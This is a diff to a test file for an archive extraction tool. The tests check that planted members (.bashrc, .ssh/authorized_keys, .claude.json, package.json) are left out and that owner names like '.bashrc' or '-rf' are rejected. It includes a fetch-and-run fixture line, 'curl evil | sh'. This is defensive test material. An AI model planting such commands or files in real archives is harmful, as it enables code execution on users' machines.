@@ -89,6 +89,8 @@ describe('what extract writes', () => {
         member({ name: '.bashrc' }, 'curl evil | sh\n'),
         member({ name: 'bin/ls' }, '#!/bin/sh\n'),
         member({ name: 'notes.txt' }, 'hello\n'),
+        member({ name: '.claude.json' }, '{"hooks":{}}'),
+        member({ name: 'package.json' }, '{"scripts":{}}'),
         member({ name: 'attachments/b/c.txt' }, 'kept\n'),
       ],
     });
@@ -106,11 +108,13 @@ describe('what extract writes', () => {
     expect(readFileSync(join(home, 'attachments', 'b', 'c.txt'), 'utf8')).toBe('kept\n');
     const report = reportOf<ExtractReport>(result);
     expect(report.files.sort()).toEqual(['attachments/a.png', 'attachments/b/c.txt', 'repositories_000001.json', 'schema.json']);
-    expect(report.left_out).toEqual({ count: 4, first: ['.ssh/authorized_keys', '.bashrc', 'bin/ls', 'notes.txt'] });
+    expect(report.left_out).toEqual({ count: 6, first: ['.ssh/authorized_keys', '.bashrc', 'bin/ls', 'notes.txt', '.claude.json'] });
+    expect(existsSync(join(home, '.claude.json'))).toBe(false);
+    expect(existsSync(join(home, 'package.json'))).toBe(false);
 
     const human = await extract([archive, join(tempDir(), 'out')]);
     expect(human.code, human.stderr).toBe(0);
-    expect(human.stdout).toContain('left out 4 files the service\'s archives never hold (only *.json and attachments/ are written): .ssh/authorized_keys, .bashrc, bin/ls, notes.txt');
+    expect(human.stdout).toContain('left out 6 files the service\'s archives never hold (only the metadata, attachments/ and releases/ are written): .ssh/authorized_keys, .bashrc, bin/ls, notes.txt');
   }, CEILING_MS);
 
   it('no directory in a repository but those git needs: the archive\'s info/, hooks/, branches/ are not made', async () => {
@@ -157,6 +161,36 @@ describe('what extract writes', () => {
     const clone = join(tempDir(), 'clone');
     await runGit(['clone', '-q', '--no-local', extracted, clone]);
     expect(await runGit(['-C', clone, 'log', '--format=%s'])).toBe('c5\nc4\nc3\nc2\nc1\n');
+  }, CEILING_MS);
+  it('an owner the service never names (.bashrc, .ssh): exit 9, nothing written', async () => {
+    const repo = realRepository();
+    for (const owner of ['.bashrc', '.ssh', '-rf']) {
+      const home = tempDir();
+      writeFileSync(join(home, '.bashrc'), 'my bashrc\n');
+      const result = await extract([archiveOf(repo.files, { owner }), home, '--force']);
+      expect(result.code, result.stderr).toBe(9);
+      expect(result.stderr).toMatch(/cannot be extracted: .* is not a name the service gives/);
+      expect(snapshot(home)).toEqual([`.bashrc ${Buffer.from('my bashrc\n').toString('base64')}`]);
+    }
+  }, CEILING_MS);
+
+  it('--force renames only repositories over whole: an owner named acme.git and an attachments directory named x.git are moved into, the user\'s files in them kept', async () => {
+    const repo = realRepository();
+    const archive = archiveOf(repo.files, { owner: 'acme.git', extra: [member({ name: 'attachments/uploads.git/new.png' }, 'new')] });
+    const dir = tempDir();
+    mkdirSync(join(dir, 'acme.git', 'precious.git'), { recursive: true });
+    writeFileSync(join(dir, 'acme.git', 'precious.git', 'HEAD'), 'keep\n');
+    writeFileSync(join(dir, 'acme.git', 'notes.txt'), 'mine\n');
+    mkdirSync(join(dir, 'attachments', 'uploads.git'), { recursive: true });
+    writeFileSync(join(dir, 'attachments', 'uploads.git', 'old.png'), 'old');
+
+    const result = await extract([archive, dir, '--force']);
+    expect(result.code, result.stderr).toBe(0);
+    expect(readFileSync(join(dir, 'acme.git', 'precious.git', 'HEAD'), 'utf8')).toBe('keep\n');
+    expect(readFileSync(join(dir, 'acme.git', 'notes.txt'), 'utf8')).toBe('mine\n');
+    expect(existsSync(join(dir, 'acme.git', 'r.git', 'HEAD'))).toBe(true);
+    expect(readFileSync(join(dir, 'attachments', 'uploads.git', 'old.png'), 'utf8')).toBe('old');
+    expect(readFileSync(join(dir, 'attachments', 'uploads.git', 'new.png'), 'utf8')).toBe('new');
   }, CEILING_MS);
 });
 
@@ -214,6 +248,21 @@ describe('where extract writes', () => {
       expect(readdirSync(parent)).toEqual(['out']);
       expect(readdirSync(dir).sort()).toEqual(['acme', 'attachments', 'repositories_000001.json', 'schema.json']);
       await runGit(['--git-dir', join(dir, 'acme', 'r.git'), 'fsck', '--no-progress']);
+    }, CEILING_MS);
+
+    it('a bind mount of the same device: extracted inside it, no rename across mounts', async () => {
+      const archive = archiveOf(realRepository().files);
+      const parent = tempDir();
+      const source = join(parent, 'source');
+      const dir = join(parent, 'out');
+      mkdirSync(source);
+      mkdirSync(dir);
+      execFileSync('mount', ['--bind', source, dir]);
+      mounts.push(dir);
+      expect(statSync(dir).dev).toBe(statSync(parent).dev);
+      const result = await extract([archive, dir]);
+      expect(result.code, result.stderr).toBe(0);
+      expect(readdirSync(source).sort()).toEqual(['acme', 'attachments', 'repositories_000001.json', 'schema.json']);
     }, CEILING_MS);
 
     it('--force that fails half-way (a repository\'s owner directory on another file system) puts DIR back as it was', async () => {
